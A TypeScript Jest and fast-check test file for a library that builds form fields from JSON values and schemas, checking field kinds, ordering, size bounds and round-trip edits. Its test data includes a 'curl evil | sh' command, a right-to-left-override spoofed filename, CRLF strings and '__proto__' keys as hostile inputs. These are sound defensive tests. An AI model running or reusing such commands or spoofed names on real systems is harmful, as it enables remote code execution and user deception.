import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import type { JsonObject, JsonValue } from '@countersign/contracts';
import { membersOf } from '@countersign/text';
import { exactNumber } from './exact-numbers.js';
import { formOf } from './fields.js';
import type { Field } from './fields.js';
import { namesIn, setAt } from './set-at.js';

const fieldsOf = (...given: Parameters<typeof formOf>): readonly Field[] => formOf(...given).fields;

const flat = (fields: readonly Field[]): readonly Field[] =>
  fields.flatMap((field) => [field, ...('fields' in field.control ? flat(field.control.fields) : [])]);

const kindsOf = (fields: readonly Field[]) =>
  Object.fromEntries(flat(fields).map(({ pointer, control }) => [pointer, control.kind]));

const leavesOf = (value: JsonValue, pointer = ''): readonly (readonly [string, string])[] => {
  const members = membersOf(value, pointer);
  if (members.length === 0) return [[pointer, JSON.stringify(value)]];
  return members.flatMap((member) => leavesOf(member.value, member.pointer));
};

const at = (value: JsonValue, pointer: string): JsonValue | undefined =>
  namesIn(pointer).reduce<JsonValue | undefined>(
    (found, name) => membersOf(found ?? null, '').find((member) => member.name === name)?.value,
    value,
  );

/** What a field shows, as the person's browser gives it back. */
const shownAndRead = ({ control, value }: Field): JsonValue | undefined =>
  control.kind === 'number' && typeof value === 'number' ? exactNumber(JSON.stringify(value)) : value;

const json = fc.jsonValue({ maxDepth: 4 }) as fc.Arbitrary<JsonValue>;
const argumentsOf = fc.dictionary(fc.oneof(fc.string(), fc.constantFrom('a', 'b', '__proto__', 'a/b', '~')), json);
const schemaOf = fc.letrec<{ schema: JsonValue }>((tie) => ({
  schema: fc.oneof(
    { maxDepth: 4 },
    fc.constant(true),
    json,
    fc.record(
      {
        type: fc.constantFrom('string', 'number', 'integer', 'boolean', 'object', 'array', 'null', ['string', 'null']),
        enum: fc.array(json),
        $ref: fc.constantFrom('#', '#/properties/a', '#/$defs/x', 'http://other/'),
        properties: fc.dictionary(fc.constantFrom('a', 'b', '__proto__'), tie('schema')),
        items: tie('schema'),
        additionalProperties: tie('schema'),
        anyOf: fc.array(tie('schema')),
        oneOf: fc.tuple(tie('schema'), fc.constant({ type: 'null' })),
        required: json,
        nullable: fc.boolean(),
        title: json,
        description: json,
      },
      { requiredKeys: [] },
    ),
  ) as fc.Arbitrary<JsonValue>,
})).schema;

describe('the fields of a form', () => {
  it('show every kind of value, those that the schema names first', () => {
    const schema: JsonObject = {
      $defs: {
        money: { type: 'object', properties: { amount: { type: 'number' }, currency: { enum: ['EUR', 'USD'] } } },
      },
      properties: {
        name: { type: 'string', title: 'Name', description: 'Of the customer' },
        refund: { $ref: '#/$defs/money' },
        note: { anyOf: [{ type: 'string' }, { type: 'null' }] },
        urgent: { type: 'boolean' },
        tags: { type: 'array', items: { type: 'string' } },
      },
      required: ['name'],
    };
    const fields = fieldsOf(
      { extra: 1, name: 'Ann', refund: { amount: 5, currency: 'EUR' }, note: null, tags: ['a'], pin: '[masked]' },
      schema,
      ['/pin'],
    );
    expect(kindsOf(fields)).toEqual({
      ...{ '/name': 'text', '/refund': 'group', '/refund/amount': 'number', '/refund/currency': 'choice' },
      ...{
        '/note': 'text',
        '/urgent': 'boolean',
        '/tags': 'list',
        '/tags/0': 'text',
        '/extra': 'number',
        '/pin': 'json',
      },
    });
    expect(fields[0]).toMatchObject({ title: 'Name', hint: 'Of the customer', isRequired: true, isNullable: false });
    expect(fields[2]).toMatchObject({ value: null, isNullable: true });
  });

  it('leave to the JSON what a field would show otherwise than it is', () => {
    const hostile = 'safe\u202Etxt.exe';
    const schema = { properties: { c: { enum: ['x'] } } };
    const value = { a: hostile, b: 'line\r\nend', c: 'not of them', d: null };
    expect(kindsOf(fieldsOf(value, schema, []))).toEqual({ '/c': 'text', '/a': 'json', '/b': 'json', '/d': 'json' });
  });

  it('are bounded whatever the schema and the arguments are', () => {
    const recursive = { properties: { a: { $ref: '#' }, b: { $ref: '#/properties/b' } }, items: { $ref: '#' } };
    let deep: JsonValue = {};
    for (let level = 0; level < 60; level += 1) deep = { a: deep, list: [deep] };
    const wide = Object.fromEntries(Array.from({ length: 5000 }, (_, n) => [`p${String(n)}`, { type: 'string' }]));
    const startMs = performance.now();
    expect(flat(fieldsOf({ deep }, recursive, [])).length).toBeLessThanOrEqual(200);
    expect(flat(fieldsOf({}, { properties: wide }, [])).length).toBeLessThanOrEqual(200);
    expect(flat(fieldsOf({ list: Array(5000).fill({}) }, null, [])).length).toBeLessThanOrEqual(200);
    expect(performance.now() - startMs).toBeLessThan(2000);
  });

  it('show what is recorded before what only the schema names, and say how much is left out', () => {
    const named = (count: number): JsonObject => ({
      properties: Object.fromEntries(Array.from({ length: count }, (_, n) => [`p${String(n)}`, { type: 'string' }])),
    });
    const filler = Object.fromEntries(Array.from({ length: 120 }, (_, n) => [`k${String(n)}`, 'x']));
    const value: JsonObject = { p7: 'note', ...filler, command: 'curl evil | sh' };
    const { fields, left } = formOf(value, named(250), []);
    const names = fields.map(({ name }) => name);
    expect(names.slice(0, 122)).toEqual(['p7', ...Object.keys(filler), 'command']);
    expect(names.slice(122, 125)).toEqual(['p0', 'p1', 'p2']);
    expect(left).toEqual({ values: 0, absent: 171 });
    expect(formOf({ a: Array(150).fill({ b: 1 }), c: 2 }, null, []).left).toEqual({ values: 52, absent: 0 });
    expect(formOf(value, null, []).left).toEqual({ values: 0, absent: 0 });
    // Nor does what is absent in a first group.
    const group = formOf({ p0: {}, command: 'curl evil | sh' }, { properties: { p0: named(300) } }, []);
    expect(group.fields.map(({ name }) => name)).toEqual(['p0', 'command']);
    expect(group.left).toEqual({ values: 0, absent: 102 });
  });

  it('stay in their order while a person sets and removes values', () => {
    const schema: JsonObject = { properties: { a: { type: 'string' }, b: { type: 'string' }, c: { type: 'string' } } };
    const namesOf = (value: JsonObject) => fieldsOf(value, schema, [], { b: 'x', d: 1 }).map(({ name }) => name);
    expect(namesOf({ b: 'x', d: 1 })).toEqual(['b', 'd', 'a', 'c']);
    expect(namesOf({ b: 'x', d: 1, c: 'y' })).toEqual(['b', 'd', 'a', 'c']);
    expect(namesOf({ d: 1 })).toEqual(['b', 'd', 'a', 'c']);
  });

  it('have exactly the values of the arguments, and give back what they show', () => {
    fc.assert(
      fc.property(argumentsOf, schemaOf, (value, schema) => {
        const before = JSON.stringify(value);
        for (const field of flat(fieldsOf(value, schema as JsonObject, []))) {
          expect(field.value).toEqual(at(value, field.pointer));
          if (field.value === undefined) continue;
          expect(JSON.stringify(setAt(value, field.pointer, shownAndRead(field)))).toBe(before);
        }
        expect(JSON.stringify(value)).toBe(before);
      }),
      { numRuns: 300 },
    );
  });

  it('change their own value and nothing beside it', () => {
    fc.assert(
      fc.property(argumentsOf, schemaOf, json, fc.nat(), (value, schema, next, which) => {
        const fields = flat(fieldsOf(value, schema as JsonObject, []));
        const field = fields.at(which % Math.max(1, fields.length));
        if (field === undefined) return;
        const changed = setAt(value, field.pointer, next);
        expect(at(changed, field.pointer)).toEqual(next);
        const others = (of: JsonValue) =>
          leavesOf(of).filter(([pointer]) => pointer !== field.pointer && !pointer.startsWith(`${field.pointer}/`));
        const isNew = field.value === undefined;
        // A first member takes the place of the empty object around it.
        const kept = others(value).filter(([pointer]) => !(isNew && field.pointer.startsWith(`${pointer}/`)));
        expect(others(changed)).toEqual(kept);
      }),
      { numRuns: 300 },
    );
  });

  it('remove a value, and an item of a list moves up', () => {
    expect(setAt({ a: { b: 1, c: 2 }, d: [1, 2, 3] }, '/a/b', undefined)).toEqual({ a: { c: 2 }, d: [1, 2, 3] });
    expect(setAt({ d: [1, 2, 3] }, '/d/1', undefined)).toEqual({ d: [1, 3] });
    expect(setAt({ d: [1] }, '/d/1', 2)).toEqual({ d: [1, 2] });
  });
});
